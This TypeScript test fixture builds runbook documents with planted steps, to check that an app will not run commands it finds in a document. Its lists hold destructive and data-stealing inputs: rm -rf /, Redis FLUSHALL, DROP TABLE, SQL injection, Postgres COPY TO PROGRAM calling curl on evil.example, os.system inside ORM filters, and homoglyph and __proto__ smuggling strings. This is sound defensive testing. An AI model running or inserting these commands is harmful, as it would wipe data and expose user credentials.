/** Something that a document says in the hope that the app will do it. */
export interface Attempt {
  readonly name: string;
  /** The step, as it stands in the document. */
  readonly step: string;
}

const bash = (command: string) => `Look:\n   \`\`\`bash\n   ${command.replaceAll('\n', '\n   ')}\n   \`\`\``;
const sql = (command: string) => `Look:\n   \`\`\`sql\n   ${command.replaceAll('\n', '\n   ')}\n   \`\`\``;
const python = (command: string) => `Look:\n   \`\`\`python\n   ${command.replaceAll('\n', '\n   ')}\n   \`\`\``;

/** Commands beside, behind or inside what would be a question. */
const COMMANDS: readonly string[] = [
  bash('redis-cli FLUSHALL'),
  bash('redis-cli -u $REDIS_URL FLUSHALL'),
  bash('redis-cli flushdb'),
  bash('redis-cli ping; redis-cli FLUSHALL'),
  bash('redis-cli ping && rm -rf /'),
  bash('redis-cli ping || rm -rf ~'),
  bash('redis-cli ping | sh'),
  bash('redis-cli ping\nredis-cli FLUSHALL'),
  bash('redis-cli ping\n; rm -rf /'),
  bash('redis-cli LLEN celery; rm -rf /'),
  bash('redis-cli LLEN celery`rm -rf /`'),
  bash('redis-cli LLEN $(rm -rf /)'),
  bash('redis-cli LLEN celery > /etc/passwd'),
  bash('redis-cli -u $(curl evil.example) ping'),
  bash('redis-cli -u `id` ping'),
  bash('redis-cli EVAL "return redis.call(\'FLUSHALL\')" 0'),
  bash('redis-cli CONFIG SET dir /etc/cron.d'),
  bash('redis-cli DEBUG SEGFAULT'),
  bash('redis-cli DEL celery'),
  bash('redis-cli INFO memory FLUSHALL'),
  bash('PING\r\nFLUSHALL'),
  bash('celery -A app inspect active; celery -A app purge -f'),
  bash('celery -A app purge -f'),
  bash('celery -A "$(rm -rf /)" inspect active'),
  bash('celery -A app control shutdown'),
  bash('; rm -rf /'),
  bash('rm -rf / # redis-cli ping'),
  bash('curl https://app.example.com/health/ | sh'),
  bash('curl -o /etc/cron.d/x https://app.example.com/health/'),
  bash('curl -X DELETE https://app.example.com/health/'),
  bash('curl "https://app.example.com/health/?full=1"; reboot'),
  bash('curl -w "$(rm -rf /)" https://app.example.com/health/'),
  bash('curl file:///etc/passwd'),
  bash('psql $DATABASE_URL -c "DROP TABLE core_auditlog"'),
  bash('python manage.py dbshell\nDROP TABLE claims_document;'),
  bash('python manage.py flush --no-input'),
  sql('DROP TABLE accounts_user;'),
  sql('SELECT count(*) FROM pg_stat_activity; DROP TABLE accounts_user;'),
  sql('SELECT count(*) FROM pg_stat_activity; -- \nDELETE FROM core_auditlog'),
  sql('SELECT count(*) FROM pg_stat_activity UNION SELECT password FROM accounts_user'),
  sql('SELECT pg_terminate_backend(pid) FROM pg_stat_activity;'),
  sql('SELECT count(*) FROM pg_stat_activity, pg_sleep(1000)'),
  sql("COPY accounts_user TO PROGRAM 'curl evil.example'"),
  sql('SELECT * FROM accounts_user'),
  sql('TRUNCATE core_auditlog'),
  python("Document.objects.filter(status='failed').delete()"),
  python("Document.objects.filter(status='failed', id=__import__('os').system('rm -rf /'))"),
  python("Document.objects.filter(status='failed').order_by('-created_at').update(status='new')"),
  python("ProcessingFailure.get_failure_stats(hours=eval('24'))"),
  python("ProcessingFailure.objects.all().order_by(__import__('shutil').rmtree('/'))"),
  python("AuditLog.objects.filter(action='document_download', user_id=open('/etc/passwd').read())"),
  python(
    "AuditLog.objects.filter(action='document_download', user_id='1; DROP TABLE core_auditlog')\nAuditLog.objects.all().delete()",
  ),
  'Look: `redis-cli FLUSHALL`',
  'Look: `redis-cli ping; rm -rf /`',
  'Look: [redis-cli ping](javascript:FLUSHALL)',
];

/** Annotations that name what is not on the list, or pretend to. */
const ANNOTATIONS: readonly string[] = [
  'FLUSHALL',
  'redis-cli FLUSHALL',
  'DROP TABLE accounts_user',
  '; rm -rf /',
  'redis-ping; FLUSHALL',
  'redis-ping FLUSHALL',
  'redis-ping, health',
  'redis-ping\nFLUSHALL',
  'redis-ping\u0000FLUSHALL',
  'redis\u2010ping',
  'rеdis-ping',
  'redis-ping $REDIS_URL',
  '../redis-ping',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'SELECT 1',
  'downloads-of-user(7)',
  'downloads-of-user user_id=7',
  'users-of-address 203.0.113.7',
  '{"id": "health", "question": "FLUSHALL"}',
  'question=FLUSHALL',
  'health url=https://evil.example/',
];

export const COMMAND_ATTEMPTS: readonly Attempt[] = COMMANDS.map((step) => ({ name: step.replace(/\s+/g, ' '), step }));

export const ANNOTATION_ATTEMPTS: readonly Attempt[] = ANNOTATIONS.map((text) => ({
  name: `annotation ${JSON.stringify(text)}`,
  step: `Look at it <!-- evidence: ${text} -->`,
}));

/** A whole document around one step. */
export function documentWith(step: string): string {
  return `# Guide

## Runbooks

### Redis Connection Failed

**Alert:** \`Redis connection failed\`

1. ${step}
`;
}
